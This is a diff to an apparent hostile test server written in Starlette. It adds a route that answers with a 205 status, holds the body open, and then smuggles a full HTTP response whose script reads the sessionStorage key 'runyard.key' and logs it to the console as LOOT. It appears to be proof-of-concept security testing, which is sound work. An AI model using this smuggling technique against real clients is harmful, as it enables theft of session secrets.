@@ -3,12 +3,14 @@
 Everything an attack gets is written to the browser's console, after the word LOOT.
 """
 
+import asyncio
 from pathlib import Path
 
 from starlette.applications import Starlette
 from starlette.requests import Request
 from starlette.responses import FileResponse, HTMLResponse, RedirectResponse, Response
 from starlette.routing import Route
+from starlette.types import Receive, Scope, Send
 
 FOLDER = Path(__file__).parent
 ATTACK = FOLDER / "attack.js"
@@ -19,6 +21,8 @@ OF_ORIGIN = {
     "Set-Login": "logged-out",
     "Set-Cookie": "tenant=1; Path=/",
 }
+LOOT = b"<script>console.log('LOOT response', sessionStorage['runyard.key'])</script>"
+RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%b" % (len(LOOT), LOOT)
 DESCRIPTION = """
 Hostile, as **Markdown**.
 
@@ -58,10 +62,29 @@ async def leak(request: Request) -> Response:
     return Response("body { color: red }", media_type="text/css")
 
 
+class Reset:
+    """A 205 whose body comes once `/release` is called: the whole of a page, head and all."""
+
+    def __init__(self) -> None:
+        self.is_released = asyncio.Event()
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        headers = [(b"content-length", b"%d" % len(RESPONSE))]
+        await send({"type": "http.response.start", "status": 205, "headers": headers})
+        await send({"type": "http.response.body", "body": b"", "more_body": True})
+        await self.is_released.wait()
+        await send({"type": "http.response.body", "body": RESPONSE})
+
+    async def release(self, request: Request) -> Response:
+        self.is_released.set()
+        return Response(status_code=204)
+
+
 async def redirect_to_key(request: Request) -> RedirectResponse:
     return RedirectResponse(f"/v2/keys/{request.path_params['thread_id']}", 307)
 
 
+reset = Reset()
 app = Starlette(
     routes=[
         Route("/page", page),
@@ -73,6 +96,8 @@ app = Starlette(
         Route("/sw.js", file(FOLDER / "sw.js", "text/javascript")),
         Route("/leak.css", leak),
         Route("/leak.png", leak),
+        Route("/reset", reset),
+        Route("/release", reset.release, methods=["POST"]),
         Route("/threads/{thread_id}", redirect_to_key, methods=["DELETE"]),
     ]
 )
